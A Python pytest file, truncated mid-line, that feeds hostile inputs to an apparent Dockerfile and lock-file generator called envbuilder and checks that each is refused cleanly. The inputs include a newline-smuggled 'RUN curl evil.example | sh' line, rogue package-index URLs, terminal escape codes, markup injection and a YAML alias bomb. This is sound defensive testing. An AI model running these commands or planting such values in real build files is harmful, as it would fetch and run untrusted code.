"""Hostile inputs, organised by root cause: every crash a clean one-line error with its exit
code; injected text never reaches a generated file; bounded YAML and linear-time explain;
exit codes that mean what the README says; envbuilder's own PyPI name (issue 10, sections
3-6), then issue 24's seven root causes (sections A-G below): closed streams and early
signals, injection through overlays and project files, unbounded reads and blocking files,
data outside the output folder, secrets in build files, wrong exit codes, caches executed on
load. A new command joins by adding its cases to the section of each root cause.

The CLI runs in a subprocess as users run it (``python -m envbuilder``, the console script's
own entry point); locks are real uv resolutions against PyPI.
"""

from __future__ import annotations

import json
import os
import re
import shutil
import subprocess
import sys
import tomllib
from pathlib import Path

import pytest

from hostile_helpers import CLI, ROOT, assert_clean_failure, cli, env, leftovers, tmpfs

TARGET = "cu121-torch2.1-py310"
CORPUS = ROOT / "tests" / "explain_corpus"


@pytest.fixture
def matrix_copy(tmp_path) -> Path:
    m = tmp_path / "matrix"
    shutil.copytree(ROOT / "matrices", m)
    return m


@pytest.fixture(scope="module")
def real_lock(uv_cache, tmp_path_factory) -> str:
    """A real requirements.lock of TARGET (uv against PyPI), made through the CLI with a
    relative -o (which used to fail: uv ran in another directory)."""
    pytest.importorskip("uv")
    cwd = tmp_path_factory.mktemp("lockcwd")
    p = cli("lock", TARGET, "-o", "build/x", cwd=cwd, UV_CACHE_DIR=str(uv_cache))
    assert p.returncode == 0, p.stderr
    assert (cwd / "build" / "x" / "requirements.lock").is_file()
    assert leftovers(cwd) == []
    assert sorted(x.name for x in (cwd / "build" / "x").iterdir()) == [
        ".envbuilder-output", "requirements.lock"]
    return (cwd / "build" / "x" / "requirements.lock").read_text()


def _render_with_lock(tmp_path: Path, text: str | bytes) -> subprocess.CompletedProcess:
    out = tmp_path / "o"
    out.mkdir(exist_ok=True)
    data = text if isinstance(text, bytes) else text.encode()
    (out / "requirements.lock").write_bytes(data)
    return cli("render", TARGET, "-o", str(out))


# -- 3. every crash a clean error ---------------------------------------------------------------

def test_relative_output_for_every_writing_command(tmp_path, real_lock):
    # lock: see real_lock (a relative -o, the README's example); render, bake, ci:
    for args in (["render", "cpu", "-o", "build/cpu"], ["render", "cpu"],
                 ["bake", "-o", "build/all"], ["ci", "--github", "--registry", "ghcr.io/o/t",
                                               "-o", "repo"]):
        p = cli(*args, cwd=tmp_path)
        assert p.returncode == 0, (args, p.stderr)
    assert (tmp_path / "build" / "cpu" / "Dockerfile").is_file()
    assert (tmp_path / "repo" / ".github" / "workflows" / "envbuilder.yml").is_file()
    assert leftovers(tmp_path) == []


def test_closed_stdout_exits_quietly(tmp_path):
    for args in (["targets", "--json"], ["render", "--all", "-o", str(tmp_path / "a"), "--json"],
                 ["explain", str(next(CORPUS.glob("*.log")))]):
        p = subprocess.run(" ".join(map(repr, [*CLI, *args])) + " | (exec 0<&-; true)",
                           shell=True, executable="/bin/bash", capture_output=True, text=True,
                           env=env(), timeout=120)
        assert "Traceback" not in p.stderr and "internal error" not in p.stderr, p.stderr
        assert "BrokenPipe" not in p.stderr, p.stderr


@pytest.mark.parametrize("args", [
    ["resolve", "cu118", "--torch", "2." + "1" * 5000],
    ["resolve", "cu118", "--torch", "2." + "1" * 3000],
    ["resolve", "cu118", "--python", "3." + "9" * 4500],
    ["resolve", "cu118-torch2." + "1" * 4000],
    ["check", "--cuda", "1" * 5000],
    ["resolve", "x" * 100_000],
])
def test_huge_version_strings_and_targets(args):
    p = cli(*args)
    first = assert_clean_failure(p, 2)
    assert len(first) < 1200  # the input is cut, not echoed whole


def test_cyclic_alias_in_targets_yaml(matrix_copy):
    t = matrix_copy / "targets.yaml"
    t.write_text(t.read_text() + "  - name: loop-a\n    target: loop-b\n"
                                 "  - name: loop-b\n    target: loop-a\n")
    p = cli("resolve", "loop-a", "--matrix", str(matrix_copy))
    assert_clean_failure(p, 2, "cycle", "targets.yaml")


@pytest.mark.parametrize("index", ["https://x.org/{0}", "https://x.org/{nope}",
                                   "https://x.org/{variant:>999999999}",
                                   "https://x.org/{variant!r}", "https://x.org/{variant.__class__}"])
def test_matrix_index_format_fields(matrix_copy, index):
    t = matrix_copy / "torch.yaml"
    text = t.read_text()
    text = re.sub(r"^index: .*$", f"index: '{index}'", text, flags=re.M) if \
        re.search(r"^index:", text, re.M) else text.replace("schema_version: 1\n",
                                                            f"schema_version: 1\nindex: '{index}'\n", 1)
    t.write_text(text)
    p = cli("render", "cu118", "-o", str(matrix_copy.parent / "o"), "--matrix", str(matrix_copy))
    assert_clean_failure(p, 2, "torch.yaml")


def test_read_only_and_too_long_output_paths(tmp_path):
    assert_clean_failure(cli("render", "cpu", "-o", str(tmp_path / ("x" * 300))), 2,
                         "File name too long")
    assert_clean_failure(cli("render", "cpu", "-o", "/".join(["d"] * 3000)), 2)
    with tmpfs(tmp_path / "ro") as ro:
        subprocess.run(["mount", "-o", "remount,ro", str(ro)], check=True)
        assert_clean_failure(cli("render", "cpu", "-o", str(ro / "o")), 2, "Read-only")
        assert_clean_failure(cli("lock", "cpu", "-o", str(ro / "o"), "--conda-channel", "a\nb",
                                 "--conda"), 2)
    assert leftovers(tmp_path) == []


def test_full_disk_during_lock_names_the_file(tmp_path, real_lock, uv_cache):
    with tmpfs(tmp_path / "mnt", size="1m") as mnt:
        out = mnt / "o"
        from hostile_helpers import fill

        fill(mnt)
        p = cli("lock", TARGET, "-o", str(out), UV_CACHE_DIR=str(uv_cache))
        assert_clean_failure(p, 1, "requirements.lock", "No space left")
        assert leftovers(mnt) == [] and not (out / "requirements.lock").exists()


def test_readme_sequence_lock_sbom_conda_then_render(tmp_path, real_lock, uv_cache):
    """The README's `lock -o D --sbom --conda` then `render -o D`: all outputs stay."""
    import asyncio
    import inspect

    test_conda = pytest.importorskip("test_conda")  # skips where the conda extra is missing
    from rattler.index import index_fs

    ch = tmp_path / "channel"
    test_conda._package(ch, "python", "3.10.14", ["libzlib >=1.2"])
    test_conda._package(ch, "libzlib", "1.3.1")
    test_conda._package(ch, "pip", "24.0", ["python >=3.8"])
    (ch / "linux-64").mkdir()
    done = index_fs(ch)
    if inspect.iscoroutine(done):
        asyncio.run(done)
    out = tmp_path / "D"
    p = cli("lock", TARGET, "-o", str(out), "--sbom", "--conda", "--conda-channel", str(ch),
            UV_CACHE_DIR=str(uv_cache))
    assert p.returncode == 0, p.stderr
    names = ("requirements.lock", "sbom.cdx.json", "environment.yml", "conda-lock.yml")
    before = {n: (out / n).read_bytes() for n in names}
    p = cli("render", TARGET, "-o", str(out))
    assert p.returncode == 0, p.stderr
    assert {n: (out / n).read_bytes() for n in names} == before
    assert (out / "Dockerfile").is_file() and leftovers(tmp_path) == []
    p = cli("lock", TARGET, "-o", str(out), UV_CACHE_DIR=str(uv_cache))  # lock alone again
    assert p.returncode == 0, p.stderr
    assert all((out / n).is_file() for n in names)


def test_failing_conda_does_not_replace_the_lock(tmp_path, real_lock, uv_cache):
    """lock --conda (and --sbom) write together with requirements.lock, or nothing."""
    from envbuilder._fs import Outputs

    out = tmp_path / "o"
    older = real_lock.replace("# requirements.lock:", "# an older requirements.lock:", 1)
    with Outputs("lock") as tx:  # an earlier `envbuilder lock` left this one
        tx.add(out, {"requirements.lock": older}, group="lock")
        tx.commit()
    p = cli("lock", TARGET, "-o", str(out), "--sbom", "--conda", "--conda-channel",
            f"file://{tmp_path}/no-such-channel", UV_CACHE_DIR=str(uv_cache))
    assert p.returncode in (1, 2) and "Traceback" not in p.stderr, p.stderr
    assert (out / "requirements.lock").read_text() == older
    assert not (out / "sbom.cdx.json").exists() and not (out / "environment.yml").exists()
    assert leftovers(tmp_path) == []


def test_lock_with_invalid_utf8(tmp_path):
    p = _render_with_lock(tmp_path, b"torch==2.1.2 \\\n    --hash=sha256:\xff\xfe\n")
    assert_clean_failure(p, 2, "requirements.lock", "UTF-8")
    p = cli("lock", TARGET, "-o", str(tmp_path / "o"), "--check")
    assert_clean_failure(p, 2, "UTF-8")


def test_newline_in_conda_channel(tmp_path):
    p = cli("lock", "cpu", "-o", str(tmp_path / "o"), "--conda", "--conda-channel",
            "conda-forge\n  - evil")
    assert_clean_failure(p, 2, "--conda-channel")
    assert not (tmp_path / "o").exists()


def test_explain_stdin_closed():
    p = subprocess.run(" ".join(map(repr, [*CLI, "explain", "-"])) + " 0<&-", shell=True,
                       executable="/bin/bash", capture_output=True, text=True, env=env(),
                       timeout=60)
    assert_clean_failure(p, 2, "stdin")


@pytest.mark.parametrize("codec", ["utf-16", "utf-16-le", "utf-16-be", "utf-32", "utf-32-le",
                                   "utf-32-be"])
def test_utf16_and_utf32_logs(tmp_path, codec):
    log = sorted(CORPUS.glob("*.log"))[0]
    text = log.read_text()
    want = json.loads(cli("explain", "--json", str(log)).stdout)["causes"][0]["category"]
    f = tmp_path / f"log.{codec}"
    f.write_bytes(text.encode(codec))  # 'utf-16'/'utf-32' write a BOM, the -le/-be ones none
    p = cli("explain", "--json", str(f))
    assert p.returncode == 0, p.stderr
    assert json.loads(p.stdout)["causes"][0]["category"] == want


# -- 4. injection and hostile data --------------------------------------------------------------

def _generated(folder: Path) -> list[tuple[str, str]]:
    out = []
    for p in folder.rglob("*"):
        if p.is_file() and p.suffix != ".py" and p.name != ".envbuilder-output":
            out += [(str(p.relative_to(folder)), ln) for ln in p.read_text().splitlines()]
    return out


def test_newline_in_requirements_path_stays_in_a_comment(tmp_path, real_lock, uv_cache):
    evil = tmp_path / "req\nRUN curl evil.example | sh\n"
    evil.write_text("six==1.16.0\n")
    out = tmp_path / "o"
    p = cli("render", TARGET, "-o", str(out), "--lock", "--requirements", str(evil),
            UV_CACHE_DIR=str(uv_cache))
    assert p.returncode == 0, p.stderr
    for name, line in _generated(out):
        if "evil.example" in line:
            assert line.lstrip().startswith("#"), (name, line)


@pytest.mark.parametrize("change, needle", [
    (lambda t: t + "--extra-index-url=https://evil.example/simple\n", "pip option"),
    (lambda t: t.replace("\n", "\n--index-url https://evil.example/simple\n", 1), "pip option"),
    (lambda t: t + "evil==1.0 \\\n    --hash=sha256:" + "0" * 64 + "\nRUN curl x | sh\n",
     "not a pinned requirement"),
    (lambda t: t + "evil==1.0 \\\n    --extra-index-url=https://evil.example\n", "pip options"),
    (lambda t: t[: t.rindex("--hash=sha256:") + 30], "cut"),
    (lambda t: t + "evil==1.0\n", "no --hash"),
    (lambda t: t.replace("# python: 3.10,", "# python: 3.12,"), "Python 3.12"),
    (lambda t: t.replace("torch==", "torch\x1b[31m==", 1), "control characters"),
])
def test_hostile_locks_are_refused_by_render(tmp_path, real_lock, change, needle):
    p = _render_with_lock(tmp_path, change(real_lock))
    assert_clean_failure(p, 2, needle)
    assert not (tmp_path / "o" / "Dockerfile").exists()


def test_a_good_lock_renders(tmp_path, real_lock):
    p = _render_with_lock(tmp_path, real_lock)
    assert p.returncode == 0, p.stderr


def test_hostile_locks_fail_lock_check(tmp_path, real_lock, uv_cache):
    out = tmp_path / "o"
    out.mkdir()
    for bad in (real_lock + "--extra-index-url=https://evil.example/simple\n",
                real_lock.replace("# python: 3.10,", "# python: 3.12,")):
        (out / "requirements.lock").write_text(bad)
        p = cli("lock", TARGET, "-o", str(out), "--check", UV_CACHE_DIR=str(uv_cache))
        assert p.returncode in (1, 2) and "Traceback" not in p.stderr, p.stderr


def test_user_text_through_rich_is_escaped(matrix_copy):
    inc = matrix_copy / "incompatibilities.yaml"
    hostile = r'[/oops] [bold red]not bold[/bold red] \e]0;pwned\a \e[31mred\e[0m'
    # the entries go at the head of the list (the file holds other top-level keys after it)
    head, sep, rest = inc.read_text().partition("\nincompatibilities:\n")
    assert sep, "incompatibilities.yaml has no incompatibilities: list"
    inc.write_text(head + sep + f'''  - id: hostile-warning
    when: {{cuda: ">=11"}}
    severity: warning
    reason: "{hostile}"
    fix: "[link=https://evil.example]click[/link]"
    source: https://example.org/x
  - id: hostile-error
    when: {{cuda: ">=12.4,<12.5"}}
    reason: "{hostile}"
    fix: "[/]"
    source: https://example.org/y
''' + rest)
    for args in (["resolve", "cu118"], ["targets"], ["check", "--cuda", "11.8"],
                 ["resolve", "cu124"]):
        p = cli(*args, "--matrix", str(matrix_copy), TERM="xterm-256color")
        text = p.stdout + p.stderr
        assert "MarkupError" not in text and "Traceback" not in text, text[-2000:]
        assert "\x1b" not in text and "\x07" not in text, repr(text[-2000:])
        assert p.returncode in (0, 3), text[-2000:]
        if args[0] != "check":
            assert "[/oops]" in text, text[-2000:]  # shown literally, not as markup


def test_billion_laughs_matrix(matrix_copy):
    lol = ["schema_version: 1", "a0: &a0 [lol, lol, lol, lol, lol, lol, lol, lol, lol, lol]"]
    for i in range(1, 12):
        lol.append(f"a{i}: &a{i} [" + ", ".join([f"*a{i - 1}"] * 10) + "]")
    lol.append("targets: *a11")
    (matrix_copy / "targets.yaml").write_text("\n".join(lol) + "\n")
    p = cli("targets", "--matrix", str(matrix_copy), timeout=60)
    assert_clean_failure(p, 2, "aliases")


def test_matrix_size_and_devices(matrix_copy, tmp_path):
    big = matrix_copy / "nccl.yaml"
    big.write_text(big.read_text() + "# " + "x" * (3 << 20) + "\n")
    assert_clean_failure(cli("targets", "--matrix", str(matrix_copy)), 2, "MiB")
    big.write_text((ROOT / "matrices" / "nccl.yaml").read_text())
    for dev in ("/dev/zero", "/dev/urandom"):
        (matrix_copy / "cuda.yaml").unlink()
        (matrix_copy / "cuda.yaml").symlink_to(dev)
        assert_clean_failure(cli("targets", "--matrix", str(matrix_copy), timeout=60), 2)
        assert_clean_failure(cli("targets", "--matrix", dev, timeout=60), 2, "is not a folder")
        p = cli("render", "cpu", "--lock", "--requirements", dev, "-o", str(tmp_path / "o"),
                timeout=60)
        assert_clean_failure(p, 2, "--requirements")
    (matrix_copy / "cuda.yaml").unlink()
    shutil.copy(ROOT / "matrices" / "cuda.yaml", matrix_copy / "cuda.yaml")
    long_value = matrix_copy / "nccl.yaml"
    long_value.write_text(long_value.read_text() + "note: " + "y" * 5000 + "\n")
    assert_clean_failure(cli("targets", "--matrix", str(matrix_copy)), 2, "5000 characters")


def test_explain_runs_in_linear_time(tmp_path):
    """The 410 KB backtracking log (92 s before) and its one-per-line form finish with a clean
    result; benchmarks/explain.py prints the times (under 2 s here)."""
    from envbuilder.diagnose.explain import _default_signatures

    sigs = _default_signatures()
    assert all(s.linear for s in sigs.signatures), [s.id for s in sigs.signatures if not s.linear]
    assert sigs.matcher is not None
    for name, text in (("one", "NET/IB:error1" * 31500), ("lines", "NET/IB:error1\n" * 29300)):
        f = tmp_path / f"{name}.log"
        f.write_text(text)
        p = cli("explain", "--json", str(f), timeout=120)  # a hang guard, not a timing assert
        assert p.returncode in (0, 1) and "Traceback" not in p.stderr, p.stderr
        json.loads(p.stdout)


# -- 5. exit codes and ignored input ------------------------------------------------------------

def test_ci_matrix_is_used(tmp_path, matrix_copy):
    p = cli("ci", "--github", "--registry", "ghcr.io/o/t", "-o", str(tmp_path / "r"),
            "--matrix", "/nonexistent")
    assert_clean_failure(p, 2, "does not exist")
    p = cli("ci", "--github", "--registry", "ghcr.io/o/t", "-o", ".", "--matrix", "matrix",
            cwd=tmp_path)
    assert p.returncode == 0, p.stderr
    wf = (tmp_path / ".github" / "workflows" / "envbuilder.yml").read_text()
    assert "--matrix matrix" in wf


def test_render_requirements_is_not_ignored(tmp_path):
    p = cli("render", "cpu", "--requirements", "/nonexistent", "-o", str(tmp_path / "o"))
    assert_clean_failure(p, 2, "--requirements")
    p = cli("render", "cpu", "--lock", "--requirements", "/nonexistent", "-o", str(tmp_path / "o"))
    assert_clean_failure(p, 2, "/nonexistent", "does not exist")


def test_lock_check_does_not_ignore_conda_or_sbom(tmp_path):
    for flag in ("--conda", "--sbom"):
        p = cli("lock", "cpu", "-o", str(tmp_path), "--check", flag)
        assert_clean_failure(p, 2, flag.lstrip("-"))


def test_missing_pypi_package_is_bad_input(tmp_path, uv_cache):
    pytest.importorskip("uv")
    req = tmp_path / "req.txt"
    req.write_text("envbuilder-no-such-package-zz9==1.0\n")
    p = cli("lock", TARGET, "-o", str(tmp_path / "o"), "--requirements", str(req),
            UV_CACHE_DIR=str(uv_cache))  # TARGET's torch comes from PyPI, reachable here
    if "cannot reach the package index" in p.stderr:
        pytest.skip("PyPI is not reachable")
    assert_clean_failure(p, 2, "envbuilder-no-such-package-zz9", "not on the index")
    assert not (tmp_path / "o").exists()


@pytest.mark.parametrize("registry, code", [("127.0.0.1:99999999/ml/train", 2),
                                            ("127.0.0.1:0/ml/train", 2),
                                            ("a" * 10_000, 2), ("r/" + "a" * 300, 2)])
def test_bake_refuses_bad_repositories(tmp_path, registry, code):
    p = cli("bake", "-o", str(tmp_path / "o"), "--registry", registry)
    first = assert_clean_failure(p, code, "--registry")
    assert len(first) < 600
    assert not (tmp_path / "o").exists()


def test_errors_cut_their_inputs(tmp_path, matrix_copy):
    p = cli("resolve", "c" * 4000, "--json")
    doc = json.loads(p.stdout)
    assert p.returncode == 2 and len(doc["message"]) < 1200
    (matrix_copy / "os.yaml").write_text("os: [" + "a" * 1_500_000 + "\n")
    first = assert_clean_failure(cli("targets", "--matrix", str(matrix_copy)), 2)
    assert len(first) < 1200


def test_matrix_file_is_not_a_folder(tmp_path):
    f = tmp_path / "m.yaml"
    f.write_text("x: 1\n")
    assert_clean_failure(cli("targets", "--matrix", str(f)), 2, "is not a folder")
    assert_clean_failure(cli("targets", "--matrix", str(tmp_path / "nope")), 2, "does not exist")


def test_every_error_is_one_json_document_under_json(tmp_path):
    for args in (["resolve", "x" * 5000], ["render", "cpu", "--requirements", "/x", "-o",
                                            str(tmp_path / "o")],
                 ["bake", "--registry", "127.0.0.1:99999999/x", "-o", str(tmp_path / "b")]):
        p = cli(*args, "--json")
        assert p.returncode == 2
        json.loads(p.stdout)  # exactly one document


# -- 6. envbuilder's own name -------------------------------------------------------------------

def test_distribution_name_everywhere():
    from envbuilder import DISTRIBUTION
    from envbuilder.errors import MissingExtraError
    from envbuilder.render.ci import workflow

    meta = tomllib.loads((ROOT / "pyproject.toml").read_text())
    assert meta["project"]["name"] == DISTRIBUTION == "torch-envbuilder"
    assert meta["project"]["scripts"]["envbuilder"] == "envbuilder._entry:main"
    readme = (ROOT / "README.md").read_text()
    assert not re.search(r"pip install ['\"]?envbuilder\b", readme)
    assert "pip install 'torch-envbuilder[lock]'" in readme
    assert "torch-envbuilder[lock]" in str(MissingExtraError("uv", "lock"))
    wf = workflow("ghcr.io/o/t")
    assert wf["env"]["ENVBUILDER_INSTALL"].startswith("torch-envbuilder[lock]==")


def test_the_name_is_free_on_pypi():
    """`pip index versions torch-envbuilder` finds no project (ours is not published yet, and
    no one else's has the name)."""
    p = subprocess.run([sys.executable, "-m", "pip", "index", "versions", "torch-envbuilder"],
                       capture_output=True, text=True, timeout=120)
    if "No matching distribution" not in p.stderr + p.stdout and p.returncode != 0:
        pytest.skip(f"the index is not reachable: {p.stderr.strip()[:200]}")
    assert p.returncode != 0 and "No matching distribution" in p.stderr + p.stdout



# ==============================================================================================
# Issue 24: one section per root cause. Each case fails on the code before its mechanism.
# ==============================================================================================

def _bash(cmd: str, timeout: float = 120, **extra: str) -> subprocess.CompletedProcess:
    return subprocess.run(cmd, shell=True, executable="/bin/bash", capture_output=True,
                          text=True, env=env(**extra), timeout=timeout)


def _cmdline(*args: str) -> str:
    import shlex

    return " ".join(shlex.quote(a) for a in [*CLI, *args])


# -- A. closed streams and early signals: one output guard, signal handling from the start ------

CLOSED_STDOUT = [["targets"], ["resolve", "cu118"], ["--version"], ["render", "cu118", "-o", "{tmp}/d"],
                 ["explain", str(sorted(CORPUS.glob("*.log"))[0])], ["matrix", "show", "cuda"]]


@pytest.mark.parametrize("args", CLOSED_STDOUT, ids=lambda a: " ".join(a[:2]))
@pytest.mark.parametrize("how", [">&-", "1</dev/null"], ids=["closed", "read-only"])
def test_closed_stdout_is_141_and_quiet(tmp_path, args, how):
    """`envbuilder targets >&-` printed a traceback and exited 1. A read-only stdout is what a
    closed one becomes under a shell wrapper (pyenv's shim script takes the descriptor)."""
    args = [a.replace("{tmp}", str(tmp_path)) for a in args]
    p = _bash(f"{_cmdline(*args)} {how}")
    assert p.returncode == 141, (p.returncode, p.stderr[-2000:])
    assert p.stderr == "", p.stderr[-2000:]


@pytest.mark.parametrize("args", [["targets"], ["resolve", "cu118"], ["matrix", "show", "cuda"],
                                  ["doctor"], ["render", "--help"], ["targets", "--json"]],
                         ids=lambda a: " ".join(a))
def test_reader_gone_is_141(args):
    """Output into a pipe whose reader is already gone: 141 as for a shell tool killed by
    SIGPIPE, nothing on stderr (rich's own handler exited 1, click's exited 1)."""
    r, w = os.pipe()
    os.close(r)  # the reader is gone before the first write: EPIPE for certain
    try:
        p = subprocess.run(CLI + args, stdout=w, stderr=subprocess.PIPE, text=True, env=env(),
                           timeout=120)
    finally:
        os.close(w)
    assert p.returncode == 141, (p.returncode, p.stderr[-2000:])
    assert "Traceback" not in p.stderr and "BrokenPipe" not in p.stderr, p.stderr


def test_closed_stderr_keeps_the_exit_code():
    assert _bash(f"{_cmdline('resolve', 'cu999')} 2>&-").returncode == 2
    assert _bash(f"{_cmdline('resolve', 'cu999')} 2</dev/null").returncode == 2
    assert _bash(f"{_cmdline('targets')} 2>&- >/dev/null").returncode == 0


def _catches(pid: int, sig: int) -> bool:
    try:
        with open(f"/proc/{pid}/status") as f:
            for line in f:
                if line.startswith("SigCgt:"):
                    return bool(int(line.split()[1], 16) & (1 << (sig - 1)))
    except OSError:
        pass
    return False


def _interrupt(args: list[str], delay: float, marker: int, **extra: str) -> subprocess.CompletedProcess:
    """Start the CLI, wait until it catches ``marker`` (Python's own SIGINT handler: the
    interpreter is up; SIGTERM: envbuilder's entry point has run), then SIGINT it ``delay``
    seconds later."""
    import signal
    import time

    from hostile_helpers import interruptible

    p = subprocess.Popen(CLI + args, stdout=subprocess.DEVNULL, stderr=subprocess.PIPE,
                         text=True, env=env(**extra), preexec_fn=interruptible)
    deadline = time.monotonic() + 60
    while not _catches(p.pid, marker) and p.poll() is None and time.monotonic() < deadline:
        time.sleep(0.0005)
    time.sleep(delay)
    p.send_signal(signal.SIGINT)
    err = p.communicate(timeout=120)[1]
    return subprocess.CompletedProcess(p.args, p.returncode, "", err)


# once in about 20 loaded runs of the whole engine-free suite one delay did not give 130 (not
# reproduced alone, 25 runs with the cores busy): a rare window, named in the closing note
@pytest.mark.flaky(reruns=2)
@pytest.mark.parametrize("delay", [0, 0.005, 0.01, 0.02, 0.04, 0.07, 0.1, 0.15, 0.2, 0.3])
def test_ctrl_c_at_any_moment_is_130(tmp_path, delay):
    """From the first instruction of envbuilder's entry point (it installs its SIGTERM handler
    first), Ctrl-C exits 130 with one line and no traceback: during the imports of typer,
    rich and the library, while typer parses, inside the command, while files move, at exit.
    (Before: a KeyboardInterrupt traceback and exit -2 or 1 for an interrupt in the imports.)"""
    import signal

    p = _interrupt(["render", "cu118", "-o", str(tmp_path / "o")], delay, signal.SIGTERM)
    if p.returncode == 0:  # finished before the signal: nothing to judge
        return
    assert p.returncode == 130, (p.returncode, p.stderr[-2000:])
    assert "Traceback" not in p.stderr and "KeyboardInterrupt" not in p.stderr, p.stderr
    assert p.stderr.startswith("envbuilder: interrupted"), p.stderr
    assert leftovers(tmp_path) == []


@pytest.mark.parametrize("delay", [0.005, 0.02, 0.04, 0.06, 0.09])
def test_ctrl_c_while_python_imports_envbuilder(tmp_path, delay):
    """Measured from Python's own handler (the interpreter is up, site and envbuilder's modules
    are being imported): 130 without a traceback, or, when the signal lands in Python's own
    start-up (site.py, before envbuilder's first line), Python's traceback with no envbuilder
    frame in it - the one window no program can close."""
    import signal

    p = _interrupt(["resolve", "cu118"], delay, signal.SIGINT)
    if p.returncode == 130:
        assert "Traceback" not in p.stderr, p.stderr
        return
    assert p.returncode in (0, 1, -signal.SIGINT), (p.returncode, p.stderr[-2000:])
    # Python's own start-up, or runpy loading the package's three constants: no frame of
    # envbuilder's code
    frames = set(re.findall(r'File "[^"]*/envbuilder/([^"]+)"', p.stderr))
    assert frames <= {"__init__.py"}, p.stderr


@pytest.mark.parametrize("delay", [0.3, 0.9, 1.5])
def test_lock_upgrade_interrupted_is_130(tmp_path, uv_cache, delay):
    """`lock --upgrade` interrupted after 0.9 s died by the signal (-2)."""
    import signal

    pytest.importorskip("uv")
    out = tmp_path / "o"
    p = _interrupt(["lock", "cpu", "--upgrade", "-o", str(out)], delay, signal.SIGTERM,
                   UV_CACHE_DIR=str(uv_cache))
    if p.returncode == 0:
        return
    assert p.returncode == 130, (p.returncode, p.stderr[-2000:])
    assert "Traceback" not in p.stderr, p.stderr
    assert leftovers(tmp_path) == [] and not (out / "requirements.lock").exists()


def test_smoke_host_without_torch_is_one_line(tmp_path):
    """A Python without torch (here: one where importing torch raises ModuleNotFoundError, as
    it does where torch is not installed): one line naming the import, no child traceback."""
    shadow = tmp_path / "shadow" / "torch"
    shadow.mkdir(parents=True)
    (shadow / "__init__.py").write_text(
        "raise ModuleNotFoundError(\"No module named 'torch'\", name='torch')\n")
    e = env()
    e["PYTHONPATH"] = f"{tmp_path / 'shadow'}{os.pathsep}{e['PYTHONPATH']}"
    p = subprocess.run(CLI + ["smoke", "--host", "--nproc", "2"], capture_output=True,
                       text=True, env=e, timeout=300)
    first = assert_clean_failure(p, 1, "torch is not importable", "No module named 'torch'")
    assert p.stderr.strip() == first, p.stderr  # one line: no child traceback under it


@pytest.mark.parametrize("shell_env", [{}, {"SHELL": ""}])
def test_show_completion_bash(shell_env):
    """typer took `--show-completion` as a flag and ignored `bash`: without a shell among the
    parent processes (CI, a script) it failed with "Shell  not supported", exit 1."""
    p = cli("--show-completion", "bash", **shell_env)
    assert p.returncode == 0, p.stderr
    assert "complete" in p.stdout and "_ENVBUILDER_COMPLETE" in p.stdout
    assert_clean_failure(cli("--show-completion", "tcsh"), 2, "tcsh", "bash")


# -- B. injection through overlays and project files: the built-in matrix's validators ---------

def _overlay(tmp_path: Path, name: str, text: str) -> Path:
    o = tmp_path / "overlay"
    o.mkdir(parents=True, exist_ok=True)
    (o / name).write_text(text)
    return o


SRC = "source: https://example.org/fact\n"
# the five fields the sweep found reaching the Dockerfile and envbuilder.def raw: a value that
# ends in a newline passed the schema (Python's `$` matches before a final newline)
OVERLAY_INJECTIONS = {
    "os apt package": ("os.yaml", lambda m: _os_entry(m, packages_suffix="\n")),
    "ppa repository": ("os.yaml", lambda m: _os_entry(m, repo_suffix="\n")),
    "torch index": ("torch.yaml", lambda m: "index: \"https://download.pytorch.org/whl/{variant}\\n\"\n"),
    "flavour env": ("toolchains.yaml", lambda m: _flavour_entry(m)),
    "host compiler": ("toolchains.yaml", lambda m: _host_compiler_entry(m)),
}


def _yaml_doc(name: str) -> dict:
    import yaml

    return yaml.safe_load((ROOT / "matrices" / name).read_text())


def _dump(doc: dict) -> str:
    import yaml

    return yaml.safe_dump(doc, sort_keys=False, width=1000)


def _os_entry(m, packages_suffix: str = "", repo_suffix: str = "") -> str:
    doc = _yaml_doc("os.yaml")
    o = next(x for x in doc["os"] if x["name"].startswith("ubuntu"))
    py = next(iter(o["python"].values()))
    if packages_suffix:
        py["packages"][0] += packages_suffix
    if repo_suffix:
        py["repo"] = (py["repo"] or "ppa:deadsnakes/ppa") + repo_suffix
    return _dump({"os": [o]})


def _flavour_entry(m) -> str:
    doc = _yaml_doc("toolchains.yaml")
    f = doc["flavours"][0]
    f["env"] = {**f.get("env", {}), "EVIL": "x\n"}
    return _dump({"flavours": [f]})


def _host_compiler_entry(m) -> str:
    doc = _yaml_doc("toolchains.yaml")
    h = doc["host_compilers"][0]
    k = next(iter(h["packages"]))
    h["packages"][k] = [h["packages"][k][0] + "\n"]
    return _dump({"host_compilers": [h]})


@pytest.mark.parametrize("case", sorted(OVERLAY_INJECTIONS))
def test_overlay_newline_is_refused_naming_file_and_key(tmp_path, case):
    name, make = OVERLAY_INJECTIONS[case]
    o = _overlay(tmp_path, name, make(None))
    p = cli("render", "cu121", "-o", str(tmp_path / "o"), "--matrix-overlay", str(o))
    first = assert_clean_failure(p, 2, name)
    assert "key " in first, first
    assert not (tmp_path / "o").exists()


def test_overlay_with_scalar_entries_is_refused(tmp_path):
    o = _overlay(tmp_path, "cuda.yaml", "toolkits: [11.8, 12.1]\n")
    assert_clean_failure(cli("resolve", "cu118", "--matrix-overlay", str(o)), 2, "cuda.yaml",
                         "toolkits/0")
    o = _overlay(tmp_path / "second", "nccl.yaml", "releases:\n  - 2.18.1\n")
    assert_clean_failure(cli("resolve", "cu118", "--matrix-overlay", str(o)), 2, "nccl.yaml",
                         "releases/0")


@pytest.mark.parametrize("name", ["a\nb", "train\n", "x\x1b[31m", "../up", "a b"])
def test_project_target_names_are_validated(tmp_path, name):
    import json as _json

    (tmp_path / "envbuilder.toml").write_text(
        f"[[targets]]\nname = {_json.dumps(name)}\ntarget = \"cpu\"\n")
    p = cli("render", cwd=tmp_path)
    assert_clean_failure(p, 2, "envbuilder.toml", "targets")
    assert not (tmp_path / "build").exists()


# -- C. unbounded reads and blocking files: one capped reader, fstat before reading ------------

def test_huge_sparse_project_file_is_refused_unread(tmp_path):
    """A 3 GiB sparse envbuilder.toml was read whole (3.1 GB RSS) before it was refused."""
    import json
    import subprocess
    import sys

    from hostile_helpers import CLI, env

    f = tmp_path / "envbuilder.toml"
    with open(f, "wb") as fh:
        fh.truncate(3 << 30)
    p = cli("targets", cwd=tmp_path)  # any command looks for the project
    p = cli("render", "cpu", "-o", str(tmp_path / "o"), cwd=tmp_path)
    assert_clean_failure(p, 2, "project file", "larger than")
    # the peak memory of that command alone: measured by a parent of its own (this test
    # process has had other children, a build or a torch job, of any size)
    probe = ("import json, resource, subprocess, sys; subprocess.run(sys.argv[1:], "
             "capture_output=True); print(json.dumps(resource.getrusage("
